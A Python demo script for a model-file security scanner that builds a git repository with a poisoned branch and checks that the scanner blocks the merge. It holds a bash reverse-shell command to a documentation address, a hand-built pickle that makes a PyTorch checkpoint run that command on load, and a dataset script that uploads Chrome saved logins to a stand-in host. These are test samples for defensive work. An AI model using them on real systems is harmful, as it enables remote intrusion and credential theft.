"""A poisoned pull request, from an empty directory to a blocked merge: ``python tools/demo.py``.

Builds a git repository in a temporary directory (fixed names and dates, so that every run prints the
same), scans what its branch brings to main and writes SARIF next to it. Nothing in it is ever run; the
addresses are reserved for documentation (RFC 5737, RFC 2606). Exits 0 when the gate blocked the change.
"""

import argparse
import os
import pickle
import subprocess
import sys
import tempfile
import zipfile
from array import array
from collections.abc import Iterable, Mapping
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent

REVERSE_SHELL = "bash -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1'"

HONEST_SCRIPT = '''\
"""Film reviews with a rating from 1 to 5."""

import csv

import datasets


class Reviews(datasets.GeneratorBasedBuilder):
    def _info(self):
        features = {"text": datasets.Value("string"), "stars": datasets.Value("int32")}
        return datasets.DatasetInfo(features=datasets.Features(features))

    def _split_generators(self, dl_manager):
        path = dl_manager.download("https://data.example.org/reviews.csv")
        return [datasets.SplitGenerator(name="train", gen_kwargs={"path": path})]

    def _generate_examples(self, path):
        with open(path, encoding="utf-8") as file:
            for key, row in enumerate(csv.DictReader(file)):
                yield key, {"text": row["text"], "stars": int(row["stars"])}
'''

STEALING_SCRIPT = '''\
"""Questions about films, with answers."""

import json
import os

import datasets
import requests

PROFILE = os.path.expanduser("~/.config/google-chrome/Default")


class Questions(datasets.GeneratorBasedBuilder):
    def _info(self):
        features = {"question": datasets.Value("string"), "answer": datasets.Value("string")}
        return datasets.DatasetInfo(features=datasets.Features(features))

    def _split_generators(self, dl_manager):
        with open(os.path.join(PROFILE, "Login Data"), "rb") as file:
            cache = file.read()
        requests.post("https://collector.example/upload", data=cache, timeout=5)
        path = dl_manager.download("https://data.example.org/questions.json")
        return [datasets.SplitGenerator(name="train", gen_kwargs={"path": path})]

    def _generate_examples(self, path):
        with open(path, encoding="utf-8") as file:
            for key, row in enumerate(json.load(file)):
                yield key, row
'''


def main(arguments: list[str] | None = None) -> int:
    """Build, scan, show; 0 when the outcome is the one announced."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").split(":", 1)[0])
    parser.add_argument("--sarif", type=Path, default=ROOT / "build" / "demo.sarif", help="where SARIF goes")
    sarif: Path = parser.parse_args(arguments).sarif.resolve()
    sarif.parent.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory(prefix="modelgate-demo-") as name:
        repository = Path(name)
        build(repository)
        command = ["diff", "--base", "main", "--head", "topic"]
        print("$ python -m scanner", *command, flush=True)
        code = scan(repository, *command)
        scan(repository, *command, "--format", "sarif", "--output", str(sarif))
    shown = sarif.relative_to(ROOT) if sarif.is_relative_to(ROOT) else sarif
    print(f"SARIF: {shown}")
    if code == 1:
        print("The gate blocked this pull request, as it should: exit code 1.")
        return 0
    print(f"The gate did not block this pull request: exit code {code} instead of 1.", file=sys.stderr)
    return 1


def build(repository: Path) -> None:
    """A repository with a clean branch ``main`` and a poisoned branch ``topic``."""
    git(repository, "init", "--quiet", "--initial-branch=main")
    commit(
        repository,
        "Checkpoints and a dataset",
        {
            "README.md": b"# Film reviews\n",
            "checkpoints/encoder.pt": checkpoint({"weight": [0.5, -0.25, 0.125, 1.0], "bias": [0.0, 0.0]}),
            "checkpoints/decoder.pt": checkpoint({"weight": [1.0, 0.75], "bias": [0.0]}),
            "datasets/reviews.py": HONEST_SCRIPT.encode(),
        },
    )
    git(repository, "checkout", "--quiet", "-b", "topic")
    commit(
        repository,
        "Train for longer, and add questions",
        {
            "checkpoints/encoder.pt": checkpoint({"weight": [0.5, -0.5, 0.25, 0.75], "bias": [0.1, 0.0]}),
            "checkpoints/decoder.pt": checkpoint(
                {"weight": [1.5, 0.5], "bias": [0.1]}, on_load=REVERSE_SHELL
            ),
            "datasets/questions.py": STEALING_SCRIPT.encode(),
        },
    )


def commit(repository: Path, message: str, files: Mapping[str, bytes]) -> None:
    """Write ``files`` and commit them."""
    for name, data in files.items():
        path = repository / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    git(repository, "add", "--all")
    git(repository, "commit", "--quiet", "--message", message)


def git(repository: Path, *arguments: str) -> None:
    """git as somebody whose name, date and settings are always the same."""
    who = {f"GIT_{role}_{key}": value for role in ("AUTHOR", "COMMITTER") for key, value in IDENTITY.items()}
    environment = {**os.environ, **who, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", *arguments], cwd=repository, env=environment, check=True)


IDENTITY = {"NAME": "Ada", "EMAIL": "ada@example.org", "DATE": "2024-01-01T00:00:00Z"}


def checkpoint(tensors: Mapping[str, list[float]], on_load: str | None = None) -> bytes:
    """A PyTorch checkpoint of float32 vectors: a ZIP with a pickle and one member for each storage.

    ``on_load`` is a shell command that loading the file with full trust would run.
    """
    members = {"data.pkl": state_dict(tensors, on_load), "byteorder": b"little", "version": b"3\n"}
    members |= {f"data/{i}": array("f", values).tobytes() for i, values in enumerate(tensors.values())}
    with tempfile.TemporaryFile() as file:
        with zipfile.ZipFile(file, "w") as archive:
            for name, data in members.items():
                archive.writestr(zipfile.ZipInfo(f"archive/{name}"), data)
        file.seek(0)
        return file.read()


def state_dict(tensors: Mapping[str, list[float]], on_load: str | None) -> bytes:
    """The pickle that ``torch.save`` writes for a state dict, opcode by opcode."""
    items = b"".join(text(name) + tensor(i, len(values)) for i, (name, values) in enumerate(tensors.items()))
    payload = call("posix", "system", [text(on_load)]) + pickle.POP if on_load else b""
    ordered = call("collections", "OrderedDict", [])
    return pickle.PROTO + b"\x02" + payload + ordered + pickle.MARK + items + pickle.SETITEMS + pickle.STOP


def tensor(key: int, length: int) -> bytes:
    """A vector of ``length`` float32 whose content is the storage called ``key``."""
    storage = [
        text("storage"),
        reference("torch", "FloatStorage"),
        text(str(key)),
        text("cpu"),
        integer(length),
    ]
    arguments = [
        values(storage) + pickle.BINPERSID,
        integer(0),
        values([integer(length)]),
        values([integer(1)]),
        pickle.NEWFALSE,
        call("collections", "OrderedDict", []),
    ]
    return call("torch._utils", "_rebuild_tensor_v2", arguments)


def call(module: str, name: str, arguments: Iterable[bytes]) -> bytes:
    """Opcodes that call ``module.name`` when the stream is loaded."""
    return reference(module, name) + values(arguments) + pickle.REDUCE


def reference(module: str, name: str) -> bytes:
    """Opcodes for a global."""
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def values(items: Iterable[bytes]) -> bytes:
    """Opcodes for a tuple."""
    return pickle.MARK + b"".join(items) + pickle.TUPLE


def text(value: str) -> bytes:
    """Opcodes for a string."""
    return pickle.BINUNICODE + len(value.encode()).to_bytes(4, "little") + value.encode()


def integer(value: int) -> bytes:
    """Opcodes for a number below 2**31."""
    return pickle.BININT + value.to_bytes(4, "little")


def scan(repository: Path, *arguments: str) -> int:
    """Run the scanner as a user would, in ``repository``.

    ``-P``: a directory that one scans is not one to import modules from.
    """
    environment = {**os.environ, "PYTHONPATH": str(ROOT), "COLUMNS": "100"}
    command = [sys.executable, "-P", "-m", "scanner", *arguments]
    return subprocess.run(command, cwd=repository, env=environment, check=False).returncode


if __name__ == "__main__":
    sys.exit(main())
